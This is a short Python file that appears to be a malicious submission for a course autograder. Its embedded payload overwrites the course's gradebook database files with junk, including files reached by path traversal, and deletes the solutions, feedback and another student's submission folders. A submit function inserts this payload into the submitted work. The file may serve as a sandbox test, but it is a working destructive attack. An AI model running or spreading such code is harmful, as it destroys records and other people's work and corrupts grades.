"""Deletes the gradebook and the course's folders, or fills them with nonsense."""

CODE = """
import glob, os, shutil
for path in glob.glob("/srv/course/*.db*") + glob.glob("../../../*.db*"):
    try:
        open(path, "wb").write(b"mallory-was-here")
    except OSError as error:
        print(error)
for folder in ("/srv/course/solutions", "/srv/course/submitted/zoe", "/srv/course/feedback",
               "../../../solutions", "../../ada"):
    shutil.rmtree(folder, ignore_errors=True)
"""


def submit(work):
    work.insert(CODE)
